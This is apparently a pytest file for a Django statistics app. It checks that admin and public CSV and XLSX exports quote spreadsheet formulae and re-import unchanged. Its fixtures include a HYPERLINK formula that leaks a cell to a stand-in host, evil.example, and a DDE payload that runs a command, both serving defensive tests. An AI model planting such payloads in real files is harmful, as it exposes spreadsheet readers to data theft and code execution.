"""Every export opens in a spreadsheet as text: an editor-typed formula never runs on the reader's machine."""

import csv
import datetime
import io
from http import HTTPStatus

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from import_export.forms import SelectableFieldsExportForm

from common.spreadsheet import spreadsheet_safe
from metrics import aggregation
from metrics import views as metrics_views
from metrics.importing.importer import TRUSTED_OPERATOR, usage_import
from metrics.models import Metric, UsageStatistic
from metrics.resources import MetricResource, UsageStatisticResource
from metrics.tests.factories import MetricFactory, UsageStatisticFactory
from processes.models import ContentModule
from processes.resources import ContentModuleResource
from processes.tests.factories import ContentModuleFactory
from regions.models import WellbeingCounty
from regions.resources import WellbeingCountyResource
from regions.tests.factories import ServiceAreaFactory, WellbeingCountyFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
DDE_COMMAND = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        (DDE_COMMAND, "'" + DDE_COMMAND),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Siun sote", "Siun sote"),
        ("2024-W05", "2024-W05"),
        ("14", "14"),
        ("-5", "-5"),
        ("", ""),
        (162091, 162091),
        (None, None),
    ],
)
def test_spreadsheet_safe_quotes_formulae_and_keeps_plain_values(cell, expected):
    assert spreadsheet_safe(cell) == expected


def admin_export(client, model, resource_class, file_format="CSV"):
    """POST the admin's export form for every field of the resource; the response is the file."""
    model_admin = admin.site.get_model_admin(model)
    format_names = [export_format.__name__ for export_format in model_admin.get_export_formats()]
    fields = {
        SelectableFieldsExportForm.create_boolean_field_name(resource_class, name): "on"
        for name in resource_class().get_export_order()
    }
    opts = model._meta
    return client.post(
        reverse(f"admin:{opts.app_label}_{opts.model_name}_export"),
        {"resource": "0", "format": str(format_names.index(file_format)), **fields},
    )


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == HTTPStatus.OK
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_admin_county_export_quotes_an_editor_typed_formula(admin_client):
    WellbeingCountyFactory(code="14", name_fi=HYPERLINK, brand=DDE_COMMAND, population=162091, population_year=2024)

    [row] = csv_rows(admin_export(admin_client, WellbeingCounty, WellbeingCountyResource))

    assert row["brand"] == "'" + DDE_COMMAND
    assert row["name_fi"] == "'" + HYPERLINK
    assert (row["code"], row["population"], row["population_year"]) == ("14", "162091", "2024")


def test_admin_county_xlsx_export_quotes_an_editor_typed_formula(admin_client):
    WellbeingCountyFactory(code="14", brand=DDE_COMMAND)

    response = admin_export(admin_client, WellbeingCounty, WellbeingCountyResource, file_format="XLSX")

    assert response.status_code == HTTPStatus.OK
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header, row = [[cell.value for cell in line] for line in sheet.iter_rows()]
    assert dict(zip(header, row, strict=True))["brand"] == "'" + DDE_COMMAND


def test_admin_content_export_quotes_an_editor_typed_formula(admin_client):
    ContentModuleFactory(code="kurkkukipu", name_fi="Kurkkukipu", description_fi=HYPERLINK, name_en=DDE_COMMAND)

    [row] = csv_rows(admin_export(admin_client, ContentModule, ContentModuleResource))

    assert row["description_fi"] == "'" + HYPERLINK
    assert row["name_en"] == "'" + DDE_COMMAND
    assert (row["code"], row["name_fi"]) == ("kurkkukipu", "Kurkkukipu")


def test_admin_metric_export_quotes_an_editor_typed_formula(admin_client):
    MetricFactory(code="assessments_started", name_fi="@SUM(1+1)", description_fi=HYPERLINK)

    [row] = csv_rows(admin_export(admin_client, Metric, MetricResource))

    assert row["name_fi"] == "'@SUM(1+1)"
    assert row["description_fi"] == "'" + HYPERLINK
    assert row["code"] == "assessments_started"


def test_admin_statistics_export_quotes_a_formula_and_keeps_codes_and_numbers(admin_client):
    county = WellbeingCountyFactory(code="=1")
    UsageStatisticFactory(
        county=county, module=ContentModuleFactory(code="kurkkukipu"), metric=MetricFactory(code="started"), value=1234
    )

    [row] = csv_rows(admin_export(admin_client, UsageStatistic, UsageStatisticResource))

    assert row == {
        "county": "'=1",
        "service_area": "",
        "module": "kurkkukipu",
        "metric": "started",
        "period_type": "week",
        "period": "2024-W01",
        "value": "1234",
        "responses": "",
    }


def test_the_admin_and_the_public_statistics_exports_write_the_same_rows(admin_client, client, demo_data):
    public = client.get(reverse("metrics:statistics_export"), {"period_type": "month", "start": "2026-01"})
    public_rows = list(csv.reader(io.StringIO(b"".join(public.streaming_content).decode())))
    wanted = {tuple(row) for row in public_rows[1:]}

    admin_rows = csv_rows(admin_export(admin_client, UsageStatistic, UsageStatisticResource))
    # A count's public file has no responses column; the admin's, of every metric, has it empty for a count.
    exported = {tuple(row.values())[:-1] for row in admin_rows if not row["responses"]}

    assert list(admin_rows[0]) == [*public_rows[0], "responses"]
    assert wanted
    assert wanted <= exported


def test_an_admin_statistics_export_imports_back_unchanged(admin_client, demo_data):
    response = admin_export(admin_client, UsageStatistic, UsageStatisticResource)

    result = usage_import(file=SimpleUploadedFile("export.csv", response.content), user=TRUSTED_OPERATOR, dry_run=True)

    assert result.error_count == 0
    assert result.unchanged == result.rows_read == UsageStatistic.objects.count()


def test_public_statistics_export_quotes_a_formula_in_a_code(client):
    county = WellbeingCountyFactory(code="=1")
    UsageStatisticFactory(county=county, module=ContentModuleFactory(code="kurkkukipu"), metric=started_metric())

    response = client.get(reverse("metrics:statistics_export"), {"period_type": "week"})

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1] == ["'=1", "", "kurkkukipu", "assessments_started", "week", "2024-W01", "10"]


def test_an_exported_county_file_imports_back_unchanged(admin_client, demo_data):
    response = admin_export(admin_client, WellbeingCounty, WellbeingCountyResource)

    dataset = tablib.Dataset().load(response.content.decode("utf-8-sig"), format="csv")
    result = WellbeingCountyResource().import_data(dataset, dry_run=True)

    assert not result.has_errors()
    assert result.totals["skip"] == WellbeingCounty.objects.count() == 22


def test_an_exported_statistics_file_imports_back_unchanged(client, demo_data):
    response = client.get(reverse("metrics:statistics_export"), {"period_type": "week"})
    content = b"".join(response.streaming_content)

    result = usage_import(file=SimpleUploadedFile("omaolo-usage.csv", content), user=TRUSTED_OPERATOR, dry_run=True)

    assert result.error_count == 0
    assert result.unchanged == result.rows_read > 0
    assert (result.created, result.updated) == (0, 0)


def started_metric():
    return MetricFactory(code="assessments_started")


def weekly_statistics(weeks: int, *, counties: int = 1):
    metric, module = started_metric(), ContentModuleFactory()
    UsageStatistic.objects.bulk_create(
        UsageStatistic(
            county=county,
            module=module,
            metric=metric,
            period_type="week",
            period_start=datetime.date(2024, 1, 1) + datetime.timedelta(weeks=week),
            value=week,
        )
        for county in [WellbeingCountyFactory() for _ in range(counties)]
        for week in range(weeks)
    )


def test_public_export_without_a_range_holds_the_weeks_the_page_shows(client):
    weekly_statistics(40)

    page = client.get(reverse("metrics:statistics"), {"period_type": "week"})
    export = client.get(reverse("metrics:statistics_export"), {"period_type": "week"})

    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
    assert [row[5] for row in rows[1:]] == [total.label for total in page.context["totals"]]
    assert len(rows) == 1 + aggregation.DEFAULT_PERIODS["week"]


def test_public_export_over_the_row_limit_asks_to_narrow_the_choices(
    client, monkeypatch, django_assert_max_num_queries
):
    monkeypatch.setattr(metrics_views, "MAX_EXPORT_ROWS", 10)
    weekly_statistics(8, counties=2)

    # One more than before: an open range end is read from the latest period, as the page does.
    with django_assert_max_num_queries(7):
        response = client.get(reverse("metrics:statistics_export"), {"period_type": "week", "start": "2024-W01"})

    assert response.status_code == HTTPStatus.BAD_REQUEST
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert response.context["form"].non_field_errors() == [str(metrics_views.EXPORT_TOO_LARGE).format(limit="10")]
    assert str(metrics_views.EXPORT_TOO_LARGE).format(limit="10") in response.content.decode()


def test_public_export_at_the_row_limit_is_downloaded_and_may_be_cached(client, monkeypatch):
    monkeypatch.setattr(metrics_views, "MAX_EXPORT_ROWS", 16)
    weekly_statistics(8, counties=2)

    response = client.get(reverse("metrics:statistics_export"), {"period_type": "week", "start": "2024-W01"})

    assert response.status_code == HTTPStatus.OK
    assert len(b"".join(response.streaming_content).decode().splitlines()) == 1 + 16
    assert response["Cache-Control"] == f"public, max-age={metrics_views.EXPORT_CACHE_SECONDS}"


def test_public_export_orders_rows_by_the_codes_not_by_the_order_they_were_created(client, django_assert_num_queries):
    metric = started_metric()
    late_county, early_county = WellbeingCountyFactory(code="90"), WellbeingCountyFactory(code="12")
    late_module, early_module = ContentModuleFactory(code="virtsa"), ContentModuleFactory(code="korva")
    north, south = (
        ServiceAreaFactory(county=early_county, code="pohjoinen"),
        ServiceAreaFactory(county=early_county, code="etela"),
    )
    first_week, second_week = datetime.date(2024, 1, 1), datetime.date(2024, 1, 8)
    for county, area, module, period_start, value in [
        (late_county, None, late_module, first_week, 1),
        (late_county, None, early_module, first_week, 2),
        (early_county, None, early_module, second_week, 3),
        (early_county, north, early_module, first_week, 4),
        (early_county, south, early_module, first_week, 5),
        (early_county, None, early_module, first_week, 6),
        (early_county, None, late_module, first_week, 7),
    ]:
        UsageStatisticFactory(
            county=county, service_area=area, module=module, metric=metric, period_start=period_start, value=value
        )

    # The filter's metric, the range's end, the count, the four code tables, the rows.
    with django_assert_num_queries(8):
        response = client.get(reverse("metrics:statistics_export"), {"period_type": "week", "start": "2024-W01"})
        content = b"".join(response.streaming_content).decode()

    assert content.splitlines() == [
        "county,service_area,module,metric,period_type,period,value",
        "12,,korva,assessments_started,week,2024-W01,6",
        "12,etela,korva,assessments_started,week,2024-W01,5",
        "12,pohjoinen,korva,assessments_started,week,2024-W01,4",
        "12,,korva,assessments_started,week,2024-W02,3",
        "12,,virtsa,assessments_started,week,2024-W01,7",
        "90,,korva,assessments_started,week,2024-W01,2",
        "90,,virtsa,assessments_started,week,2024-W01,1",
    ]
